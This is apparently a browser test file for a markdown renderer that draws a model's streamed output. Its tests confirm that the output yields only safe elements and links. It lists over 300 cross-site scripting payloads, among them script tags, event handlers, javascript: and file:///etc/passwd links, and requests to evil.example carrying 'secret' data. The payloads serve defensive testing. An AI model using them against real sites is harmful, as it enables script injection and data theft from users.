"""What a model writes is shown as elements: it neither runs nor fetches, and leads only to web and mail addresses."""

from pathlib import Path
from typing import Any

import pytest

from tests.site.pages.conftest import SITE, Site

pytestmark = pytest.mark.browser

ROOT = SITE.parent
DRAWN = """async (text) => {
  const { StreamedText } = await import('/source/app/streamed_text.js');
  const { readBlocks } = await import('/source/app/markdown.js');
  const root = document.createElement('div');
  const drawing = new StreamedText(root, readBlocks);
  drawing.append(text);
  drawing.draw();
  return root.innerHTML;
}"""
# Each text is drawn as it grows by one character at a time, in the document, as a browser would run or fetch it.
ATTACKED = """async (texts) => {
  const { StreamedText } = await import('/source/app/streamed_text.js');
  const { readBlocks } = await import('/source/app/markdown.js');
  const found = [];
  globalThis.alert = globalThis.attacked = () => found.push('ran');
  document.addEventListener('securitypolicyviolation', (event) => found.push(event.violatedDirective));
  const ALLOWED = /^(DIV|P|H[4-6]|BLOCKQUOTE|PRE|CODE|UL|OL|LI|TABLE|THEAD|TBODY|TR|TH|TD|HR|SPAN|STRONG|EM|DEL|BR|A)$/;
  const NAMES = /^(href|target|rel|title|class|tabindex|start|data-language)$/;
  const check = (root, text) => {
    for (const node of root.querySelectorAll('*')) {
      if (!ALLOWED.test(node.tagName)) found.push(`${node.tagName} of ${text}`);
      for (const { name } of node.attributes) if (!NAMES.test(name)) found.push(`${name} of ${text}`);
      if (node.href && !/^(https?|mailto):/.test(node.protocol)) found.push(`${node.href} of ${text}`);
    }
  };
  for (const text of texts) {
    const root = document.body.appendChild(document.createElement('div'));
    const drawing = new StreamedText(root, readBlocks);
    for (const character of text) {
      drawing.append(character);
      drawing.draw();
      check(root, text);
    }
    root.remove();
  }
  await new Promise((resolve) => setTimeout(resolve, 300));
  return found;
}"""

SCRIPTS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/?q=secret>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href=//evil.example/x.svg#a></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import '//evil.example/x.css'</style>",
    '<div style="background:url(//evil.example/x)">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.example><button>x</button></form>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.example/x autoplay>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<a href=javascript:alert(1)>x</a>",
    "<a ping=//evil.example href=/>x</a>",
    "<marquee onstart=alert(1)>",
    "<x onpointerenter=alert(1) style=position:fixed;inset:0>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<img/src='x'/onerror='alert(1)'",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:http://evil.example/1",
    "file:///etc/passwd",
    "//evil.example/?q=secret",
    "http://evil.example/?q=secret",
    "https://evil.example/collect?chat=everything",
    "\x01javascript:alert(1)",
    "view-source:http://evil.example",
]
AROUND = ["{}", "> {}", "- {}", "1. {}", "# {}", "| a |\n|---|\n| {} |", "**{}**", "`` {} ``", "```html\n{}"]
LINKS = [
    "[x]({})",
    "![x]({})",
    "[x](<{}>)",
    "<{}>",
    "[x][1]\n\n[1]: {}",
    "![x][1]\n\n[1]: {}",
    '[x]({} "onload=alert(1)")',
]
PAYLOADS = [form.format(script) for script in SCRIPTS for form in AROUND] + [
    form.format(address) for address in ADDRESSES for form in LINKS
]


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("# Title", "<h4>Title</h4>"),
        ("a **b** *c* ~~d~~ `e`", "<p>a <strong>b</strong> <em>c</em> <del>d</del> <code>e</code></p>"),
        ("one\n\ntwo", "<p>one</p><p>two</p>"),
        ("> said", "<blockquote><p>said</p></blockquote>"),
        ("- a\n- b", "<ul><li><span>a</span></li><li><span>b</span></li></ul>"),
        ("3. c", '<ol start="3"><li><span>c</span></li></ol>'),
        ("- [x] done", "<ul><li>☑ <span>done</span></li></ul>"),
        ("```py\nx < 1\n```", '<pre tabindex="0" data-language="py"><code>x &lt; 1</code></pre>'),
        ("5 &lt; 6 & 7", "<p>5 &lt; 6 &amp; 7</p>"),
        ("a <b>c</b>", "<p>a &lt;b&gt;c&lt;/b&gt;</p>"),
        (
            "![a cat](http://x.example/c.png)",
            '<p><a href="http://x.example/c.png" target="_blank"'
            ' rel="noopener noreferrer nofollow" title="http://x.example/c.png">a cat</a></p>',
        ),
        ("[go](javascript:alert)", "<p><span>go</span></p>"),
        ("---", "<hr>"),
    ],
)
def test_markdown_becomes_elements(site: Site, markdown: str, shown: str) -> None:
    assert site.open("index.html").evaluate(DRAWN, markdown) == shown


def test_tables_scroll_by_themselves(site: Site) -> None:
    drawn = site.open("index.html").evaluate(DRAWN, "| a | b |\n|---|--:|\n| 1 | 2 |")
    assert drawn.startswith('<div class="scrolling" tabindex="0"><table><thead><tr><th>a</th>')
    assert '<td class="right">2</td>' in drawn


def test_no_payload_runs_fetches_or_leads_astray_whole_or_cut_anywhere(site: Site) -> None:
    assert len(PAYLOADS) >= 300
    page = site.open("index.html")
    before = len(site.requested)
    found: list[Any] = page.evaluate(ATTACKED, PAYLOADS)
    assert found == []
    assert [url for url in site.requested[before:] if "evil" in url or "/x" in url] == []


def test_what_has_not_changed_stays_in_the_page(site: Site) -> None:
    kept = """async () => {
      const { StreamedText } = await import('/source/app/streamed_text.js');
  const { readBlocks } = await import('/source/app/markdown.js');
      const root = document.createElement('div');
      const drawing = new StreamedText(root, readBlocks);
      drawing.append('# One\\n\\nTwo th');
      drawing.draw();
      const [title, before] = root.childNodes;
      drawing.append('ree');
      drawing.draw();
      return [title === root.firstChild, before !== root.lastChild, root.textContent];
    }"""
    assert site.open("index.html").evaluate(kept) == [True, True, "OneTwo three"]


def test_texts_that_are_hard_to_read_do_not_stop_the_page(site: Site) -> None:
    page = site.open("index.html")
    for text in ("[" * 20_000, "> " * 5_000, "a**b" * 8_000, "<" * 20_000, "![[" * 6_000, "`" * 20_000):
        took = page.evaluate(
            f"async (text) => {{ const at = performance.now(); await ({DRAWN})(text); return performance.now() - at }}",
            text,
        )
        assert took < 2_000, text[:8]


def test_the_vendored_reader_is_the_published_one() -> None:
    published = ROOT / "node_modules" / "marked"
    vendor = SITE / "app" / "vendor"
    pairs: list[tuple[Path, Path]] = [
        (vendor / "marked.mjs", published / "lib" / "marked.esm.js"),
        (vendor / "marked.LICENSE", published / "LICENSE"),
    ]
    assert all(own.read_bytes() == original.read_bytes() for own, original in pairs)
